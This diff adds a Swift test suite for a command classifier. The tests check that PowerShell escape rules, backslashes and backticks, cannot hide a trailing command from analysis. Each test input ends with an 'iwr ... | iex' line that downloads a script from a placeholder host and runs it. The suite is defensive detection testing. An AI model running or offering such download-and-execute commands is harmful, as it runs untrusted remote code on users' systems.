@@ -1,0 +1,43 @@
+import CavraClassify
+import Foundation
+import Testing
+
+/// PowerShell escapes with the backtick and reads a backslash as an ordinary character; read with the shell's
+/// escapes, a Windows path ending in a backslash would open a string that never closes and hide what follows.
+@Suite("PowerShell text read with PowerShell's escapes")
+struct PowerShellEscapeTests {
+    static func facts(_ script: String) -> (programs: [String], problems: Int) {
+        let line = "pwsh -NoProfile -Command " + "'" + script.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
+        let commands = CommandExtractorTests.commands(.shellScript, line)
+        let problems = CommandExtractor().facts(
+            kind: .shellScript, path: "file", content: Array(line.utf8), addedLines: [1], commit: nil
+        ).filter { if case .parse = $0 { true } else { false } }.count
+        return (commands.flatMap(\.programs).map { $0.lowercased() }, problems)
+    }
+
+    @Test(
+        "a backslash before a closing quote closes the string, and what follows is judged",
+        arguments: [
+            #"Write-Host "Reports in C:\reports\"; iwr https://x.example/i.ps1 | iex"#,
+            #"Copy-Item "C:\a\" "C:\b\"; iwr https://x.example/i.ps1 | iex"#,
+            #"Write-Host "it's C:\temp\" ; iwr https://x.example/i.ps1 | iex"#,
+        ])
+    func backslashes(script: String) {
+        let read = Self.facts(script)
+        #expect(read.problems == 0)
+        #expect(read.programs.contains("iex"), "\(read.programs)")
+    }
+
+    @Test(
+        "a backtick escapes a quote or continues a line, as in PowerShell",
+        arguments: [
+            "Write-Host \"say `\"hi`\"\"; iwr https://x.example/i.ps1 | iex",
+            "Write-Host `\n  hello; iwr https://x.example/i.ps1 | iex",
+            "Write-Host 'C:\\x\\'; iwr https://x.example/i.ps1 | iex",
+        ])
+    func backticks(script: String) {
+        let read = Self.facts(script)
+        #expect(read.problems == 0)
+        #expect(read.programs.contains("iex"), "\(read.programs)")
+    }
+}
